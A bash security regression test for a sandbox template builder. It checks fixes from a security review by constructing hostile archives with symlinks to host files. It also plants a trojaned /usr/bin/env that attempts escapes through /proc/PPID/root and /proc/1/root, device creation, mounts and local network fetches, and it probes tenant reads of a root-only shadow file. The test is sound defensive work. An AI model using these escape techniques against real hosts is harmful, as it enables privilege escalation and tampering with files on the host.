#!/bin/bash
# Nothing a template, an image or a tenant hands to sbx-template runs, or
# is read, as host root (issue 35; security-r3.md N1, N2, N3).  Each attack
# was confirmed against the tree before the fix:
# - N1: an archive whose home/user/.profile is a link to a host file, with
#   an /etc/skel/.profile to copy over it (the import's skel copy wrote
#   through the link, as root, mode and owner included); a files: directory
#   copied over a base directory that holds such a link;
# - N2: a base whose /usr/bin/env (the first program apt's chroot ran, as
#   uid 0 with every capability, the host's /proc and /dev) writes through
#   /proc/PPID/root and /proc/1/root, reads the host's disks, calls a
#   loopback service and mounts;
# - N3: a tenant's -f naming a root-only file (its first line quoted in the
#   error), and files outside the tenant's host_paths.
# Every step over a tree now runs confined (common/confine.h): these check
# what the steps saw (their uid map, capabilities, no_new_privs, seccomp)
# and that nothing on the host changed.
. "$(dirname "$0")/lib.sh"
require_vm
command -v debugfs >/dev/null || skip_all "debugfs (e2fsprogs) not installed"
command -v python3 >/dev/null || skip_all "python3 not installed"
MK=$(cd "$(dirname "$0")" && pwd)/tools/mkhostile.py
mkdir -p "$TEST_TMP/templates"
ln -s "$SBX_TEMPLATES"/default@* "$TEST_TMP/templates/"
export SBX_TEMPLATES=$TEST_TMP/templates
T=$SBX_TEMPLATES
# The host's side: files an attacker would like to change, owned by root.
H=$TEST_TMP/host
mkdir -p "$H"
victim() { # NAME: a root-only file whose content, mode and owner are checked
	printf 'ORIGINAL\n' >"$H/$1"
	chmod 0600 "$H/$1"
}
unchanged() { # NAME DESCRIPTION
	is "$(stat -c '%a %u %g' "$H/$1") $(cat "$H/$1")" "600 0 0 ORIGINAL" "$2"
}
dbg() { debugfs -R "$2" "$T/$1/rootfs.ext4" 2>/dev/null; }

# The default template's root, as a `docker export` would give it.
tree=$TEST_TMP/tree
mkdir -p "$tree"
debugfs -R "rdump / $tree" "$(ls -d "$SBX_TEMPLATES"/default@* | head -n1)/rootfs.ext4" 2>/dev/null
rm -rf "$tree/lost+found"
[ -x "$tree/bin/busybox" ]; ok $? "the default template's root is dumped"

# archive OUT DIR [PYTHON]: DIR as a rootfs tarball; PYTHON edits the
# entries (a list of (TarInfo, bytes or None)) before they are written.
archive() {
	python3 - "$MK" "$2" "$1" "${3:-}" <<'EOF'
import importlib.util, sys, tarfile, io
spec = importlib.util.spec_from_file_location("mk", sys.argv[1])
mk = importlib.util.module_from_spec(spec); spec.loader.exec_module(mk)
entries = mk.tree_entries(sys.argv[2])
def entry(name, data=None, kind=tarfile.REGTYPE, mode=0o644, link="", uid=0):
    ti = tarfile.TarInfo(name); ti.type, ti.mode, ti.linkname, ti.uid, ti.gid = kind, mode, link, uid, uid
    if data is not None: ti.size = len(data)
    return (ti, data)
def drop(name):
    entries[:] = [e for e in entries if e[0].name != name]
exec(sys.argv[4])
with tarfile.open(sys.argv[3], "w", format=tarfile.PAX_FORMAT) as t:
    for ti, data in entries:
        if data is not None:
            ti.size = len(data)
        t.addfile(ti, io.BytesIO(data) if data is not None else None)
EOF
}

# --- N1: the import's skel copy ------------------------------------------------
victim profile
archive "$TEST_TMP/n1.tar" "$tree" "
entries.append(entry('etc/skel', kind=tarfile.DIRTYPE, mode=0o755))
entries.append(entry('etc/skel/.profile', b'WRITTEN BY A HOSTILE ARCHIVE\n', mode=0o666, uid=4242))
drop('home/user/.profile')
entries.append(entry('home/user/.profile', kind=tarfile.SYMTYPE, link='$H/profile'))
"
ref=$(sbx-template import n1 "$TEST_TMP/n1.tar" 2>"$TEST_TMP/err"); ok $? "an archive with home/user/.profile -> a host file imports"
unchanged profile "the host file keeps its content, mode and owner"
is "$(dbg "$ref" 'cat /home/user/.profile')" "WRITTEN BY A HOSTILE ARCHIVE" \
	"the root's /home/user/.profile is the skel's file, not the link"
like "$(dbg "$ref" 'stat /home/user/.profile')" "Type: regular" "a regular file"

# --- N1: a files: directory over a base directory holding a link -------------------
victim conf
archive "$TEST_TMP/n1b.tar" "$tree" "
entries.append(entry('etc/app', kind=tarfile.DIRTYPE, mode=0o755))
entries.append(entry('etc/app/conf', kind=tarfile.SYMTYPE, link='$H/conf'))
"
base=$(sbx-template import n1b "$TEST_TMP/n1b.tar"); ok $? "a base whose /etc/app/conf -> a host file imports"
S=$TEST_TMP/spec
mkdir -p "$S/app"
echo 'FROM THE SPEC' >"$S/app/conf"
printf 'from: n1b\nfiles:\n  - {src: app, dst: /etc/app}\n  - {src: app/conf, dst: /etc/app/one, mode: "0600"}\n' >"$S/n1b.yaml"
r=$(sbx-template build n1c -f "$S/n1b.yaml" 2>"$TEST_TMP/err"); ok $? "a spec copying a directory over it builds"
unchanged conf "the host file is not written through the base's link"
is "$(dbg "$r" 'cat /etc/app/conf')" "FROM THE SPEC" "the root's /etc/app/conf is the spec's file"
like "$(dbg "$r" 'stat /etc/app/one')" "Mode:  0600" "a files: mode is applied"

# --- N2: a base's own programs, run by a packages: step ---------------------------
# /usr/bin/env is the first thing apt's chroot runs: it tries every way out
# the review named, then reports what it saw in one line (the build's
# error message carries the log's tail), and dpkg fails the step.
victim n2
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
python3 -m http.server --bind 127.0.0.1 "$port" --directory "$H" >"$TEST_TMP/http.log" 2>&1 &
http=$!
for _ in $(seq 50); do grep -q Serving "$TEST_TMP/http.log" && break; sleep 0.1; done
cat >"$TEST_TMP/env" <<EOF
#!/bin/sh
w() { if (echo WRITTEN >"\$1") 2>/dev/null; then echo "wrote:\$1"; else echo no; fi; }
a=\$(w "/proc/\$PPID/root$H/n2"); b=\$(w "/proc/1/root$H/n2"); c=\$(w "$H/n2")
d=\$(mknod /tmp/disk b 8 0 2>/dev/null && echo made || echo no)
e=\$(mount -t tmpfs x /mnt 2>/dev/null && echo mounted || echo no)
f=\$(wget -q -T 2 -O- "http://127.0.0.1:$port/n2" 2>/dev/null && echo fetched || echo no)
g=\$(ls /dev | tr '\n' ,)
s=\$(grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | sed 's/:[[:space:]]*/=/' | tr '\n' ' ')
echo "REPORT map=\$(tr -s ' ' : </proc/self/uid_map) \$s ppid=\$a one=\$b abs=\$c disk=\$d mount=\$e net=\$f dev=\$g" >&2
exec "\$@"
EOF
archive "$TEST_TMP/n2.tar" "$tree" "
drop('usr/bin/env')
entries.append(entry('usr/bin/env', open('$TEST_TMP/env','rb').read(), mode=0o755))
entries.append(entry('usr/bin/apt-get', b'#!/bin/sh\nexit 0\n', mode=0o755))
entries.append(entry('usr/bin/dpkg', b'#!/bin/sh\nexit 1\n', mode=0o755))
entries.append(entry('etc/os-release', b'VERSION_CODENAME=bookworm\n'))
"
sbx-template import n2 "$TEST_TMP/n2.tar" >/dev/null; ok $? "a base with a hostile /usr/bin/env imports"
printf 'from: n2\npackages: [hello]\n' >"$S/n2.yaml"
out=$(sbx-template build n2b -f "$S/n2.yaml" 2>&1); rc=$?
[ "$rc" = 3 ] || diag "$out"
is "$rc" 3 "a packages: build over it fails (its dpkg fails), 3" 
report=$(printf '%s' "$out" | grep -o 'REPORT.*' | head -n1)
like "$report" 'REPORT map=:?0:[0-9]+:65536' "the base's program ran in a user namespace of 65536 ids ($report)"
base_uid=$(printf '%s' "$report" | sed -n 's/REPORT map=:\{0,1\}0:\([0-9]*\):.*/\1/p')
[ "${base_uid:-0}" -ge $((0x58000000)) ]; ok $? "mapped onto a host range of sbx's ($base_uid), not root"
like "$report" 'NoNewPrivs=1' "with no_new_privs"
like "$report" 'Seccomp=2' "under a seccomp filter"
like "$report" 'CapEff=00000000a80400ff' "with only the capabilities an install needs"
like "$report" 'ppid=no one=no abs=no' "no write reached the host through /proc/PPID/root, /proc/1/root or a path"
like "$report" 'disk=no mount=no net=no' "no disk device, no mount, no network"
like "$report" 'dev=fd,full,null,random,shm,stderr,stdin,stdout,tty,urandom,zero,' "and a minimal /dev"
unchanged n2 "the host file is unchanged"
grep -q 'GET /n2' "$TEST_TMP/http.log"; is "$?" 1 "the loopback service saw no request"
kill "$http" 2>/dev/null; wait "$http" 2>/dev/null

# --- a confined step dies with its build ----------------------------------------
# Its death signal was lost when it took root in its user namespace (a
# change of uid clears it), so a build killed with SIGKILL left the step
# running to its end, its work directory locked: forever, for this one.
printf '#!/bin/sh\nexec sleep 98765\n' >"$TEST_TMP/env4"
archive "$TEST_TMP/n4.tar" "$tree" "
drop('usr/bin/env')
entries.append(entry('usr/bin/env', open('$TEST_TMP/env4','rb').read(), mode=0o755))
entries.append(entry('usr/bin/apt-get', b'#!/bin/sh\\nexit 0\\n', mode=0o755))
entries.append(entry('etc/os-release', b'VERSION_CODENAME=bookworm\\n'))
"
sbx-template import n4 "$TEST_TMP/n4.tar" >/dev/null; ok $? "a base whose /usr/bin/env never returns imports"
printf 'from: n4\npackages: [hello]\n' >"$S/n4.yaml"
hung() { ps -eo uid=,args= | awk -v b=$((0x58000000)) '$1 >= b && $2 == "sleep" && $3 == "98765"' | wc -l; }
sbx-template build n4b -f "$S/n4.yaml" >/dev/null 2>&1 &
bp=$!
for _ in $(seq 600); do [ "$(hung)" -gt 0 ] && break; sleep 0.1; done
is "$(hung)" 1 "a packages: build over it hangs in its confined step"
kill -9 "$bp"; wait "$bp" 2>/dev/null
for _ in $(seq 300); do [ "$(hung)" = 0 ] && break; sleep 0.1; done
is "$(hung)" 0 "killed with SIGKILL, the build takes its step with it"
for _ in $(seq 100); do
	sbx-gc --grace 0 >/dev/null 2>&1
	[ -z "$(find "$T" -maxdepth 1 -name '.tmp-build-n4b-*')" ] && break
	sleep 0.2
done
is "$(find "$T" -maxdepth 1 -name '.tmp-build-n4b-*' | wc -l)" 0 "and sbx-gc reclaims its work directory"

# --- N3: a tenant's files -----------------------------------------------------
mkdir -p "$SBX_ROOT/etc/sbx" "$TEST_TMP/in/pub"
cat >"$SBX_ROOT/etc/sbx/sbx.yaml" <<EOF
templates:
  publishers: [pub]
host_paths:
  read: ["$TEST_TMP/in/{tenant}"]
EOF
printf 'root:$6$SECRETHASHabcdef$xyz:19000:0:99999:7:::\n' >"$H/shadow"
chmod 0600 "$H/shadow"
out=$(sbx-template build --tenant mallory x -f "$H/shadow" 2>&1); rc=$?
is "$rc" 3 "a tenant that is not a publisher: 3"
like "$out" "templates.publishers" "it is told it may not build"
printf '%s' "$out" | grep -q SECRET; is "$?" 1 "and nothing of the file"
out2=$(sbx-template build --tenant mallory x -f "$H/none" 2>&1)
is "$out2" "$out" "a missing file gets the same answer (no oracle)"
out=$(sbx-template build --tenant pub x -f "$H/shadow" 2>&1); rc=$?
is "$rc" 3 "a publisher's -f outside its host_paths: 3"
like "$out" "host_paths.read" "naming host_paths.read"
printf '%s' "$out" | grep -q SECRET; is "$?" 1 "quoting nothing of the file"
cp "$H/shadow" "$TEST_TMP/in/pub/bad.yaml"
out=$(sbx-template build --tenant pub x -f "$TEST_TMP/in/pub/bad.yaml" 2>&1); rc=$?
is "$rc" 3 "a publisher's spec that does not parse: 3"
like "$out" 'bad.yaml:1:1: ' "the message names the line"
printf '%s' "$out" | grep -q SECRET; is "$?" 1 "and quotes nothing of the file, even its own"
out=$(sbx-template import --tenant pub x "$TEST_TMP/n1.tar" 2>&1); rc=$?
is "$rc" 3 "a publisher's import of an archive outside its host_paths: 3"
like "$out" "host_paths.read" "naming host_paths.read"
ln -s "$H/shadow" "$TEST_TMP/in/pub/link.yaml"
out=$(sbx-template build --tenant pub x -f "$TEST_TMP/in/pub/link.yaml" 2>&1); rc=$?
is "$rc" 3 "a link inside the root to a file outside it: 3"
printf '%s' "$out" | grep -q SECRET; is "$?" 1 "nothing of the file"
mkfifo "$TEST_TMP/in/pub/fifo.yaml"
out=$(timeout 20 sbx-template build --tenant pub x -f "$TEST_TMP/in/pub/fifo.yaml" 2>&1); rc=$?
is "$rc" 3 "a FIFO as the spec: 3 at once, no hang"
cp "$TEST_TMP/n1.tar" "$TEST_TMP/in/pub/n1.tar"
r=$(sbx-template import --tenant pub mine "$TEST_TMP/in/pub/n1.tar"); ok $? "an archive inside the publisher's host_paths imports ($r)"
rm -f "$SBX_ROOT/etc/sbx/sbx.yaml"

# --- what the steps leave -------------------------------------------------------
left=$(find "$T" -maxdepth 1 -name '.tmp-build-*' | wc -l)
is "$left" 0 "no build directory is left"
done_testing
